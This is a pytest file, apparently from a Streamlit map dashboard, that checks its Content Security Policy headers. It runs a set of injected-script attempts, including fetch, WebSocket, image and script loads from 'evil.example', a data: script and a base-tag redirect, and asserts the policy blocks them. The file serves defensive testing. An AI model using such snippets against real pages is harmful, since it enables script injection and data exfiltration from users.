"""The Content Security Policy: Streamlit, its frames and the map work under it, and what it is to stop is stopped."""

from __future__ import annotations

import re
import urllib.error
import urllib.request

import pytest

from dashboard.app.headers import HEADERS, POLICY, TILE_HOST
from tests.browser.harness import Desk, running
from tests.browser.samples import desk_articles

#: What a page that was got into would try; each is true if it worked.
ATTEMPTS = {
    "ask another host": "fetch('https://evil.example/a').then(() => true)",
    "open a socket to another host": """new Promise((done, fail) => {
        const s = new WebSocket('wss://evil.example/b'); s.onopen = () => done(true); s.onerror = fail; })""",
    "load a picture from another host": """new Promise((done, fail) => {
        const i = new Image(); i.onload = () => done(true); i.onerror = fail;
        i.src = 'https://evil.example/c.png'; })""",
    "load a script from another host": """new Promise((done, fail) => { const s = document.createElement('script');
        s.onload = () => done(true); s.onerror = fail;
        s.src = 'https://evil.example/d.js'; document.head.append(s); })""",
    "run a script from a data: address": """new Promise((done, fail) => { const s = document.createElement('script');
        s.onload = () => done(true); s.onerror = fail; s.src = 'data:text/javascript,1'; document.head.append(s); })""",
    "move every address of the page": """new Promise((done, fail) => { const b = document.createElement('base');
        b.href = 'https://evil.example/'; document.head.append(b);
        document.baseURI.includes('evil') ? done(true) : fail(); })""",
}  # fmt: skip


@pytest.fixture(scope="module")
def app(tmp_path_factory, gazetteer_folder):
    home = tmp_path_factory.mktemp("policy") / "home"
    desk_articles(home)
    with running(home, gazetteer_folder) as made:
        yield made


@pytest.mark.parametrize(
    "path", ["/", "/_stcore/health", "/static/none.js", "/component/streamlit_folium.st_folium/index.html"]
)
def test_every_answer_has_the_headers(app, path):
    try:
        with urllib.request.urlopen(app.url + path) as answer:
            headers = answer.headers
    except urllib.error.HTTPError as error:
        headers = error.headers
    assert {name: headers[name] for name in HEADERS} == HEADERS


def test_the_page_and_its_map_break_no_rule_of_the_policy(app, desk):
    page = desk(app)
    broken: list[str] = []
    page.page.on("console", lambda said: broken.append(said.text) if "Content Security Policy" in said.text else None)
    page.open()
    page.click_place("Baalbek")
    page.heading("Baalbek").wait_for()
    for tab in ("Articles", "Not placed", "Unlisted actors"):
        page.tab(tab).click()
        page.settled()
    page.page.get_by_role("button", name=re.compile("Add articles")).first.click()
    page.page.get_by_role("dialog").wait_for()
    assert broken == []


@pytest.fixture(scope="module")
def tried(app, browser):
    """What worked under the policy, and what works without it: the attempts are real ones."""
    found = {}
    for without in (False, True):
        page = Desk(browser, app.url, bypass_csp=without, let="https://evil.example/").open()
        worked = {what: [frame.evaluate(f"() => ({code}).catch(() => false)") for frame in page.frames()]
                  for what, code in ATTEMPTS.items()}  # fmt: skip
        found[without] = {what for what, each in worked.items() if any(each)}, page.outside
        page.close()
    return found


def test_what_got_in_all_the_same_can_do_nothing(tried):
    worked, asked = tried[False]
    assert (worked, asked) == (set(), [])


def test_without_the_policy_it_could(tried):
    worked, asked = tried[True]
    assert worked >= ATTEMPTS.keys() - {"open a socket to another host"}
    assert asked


def test_only_the_map_tiles_come_from_another_host():
    assert [source for sources in POLICY.values() for source in sources if "//" in source] == [TILE_HOST]
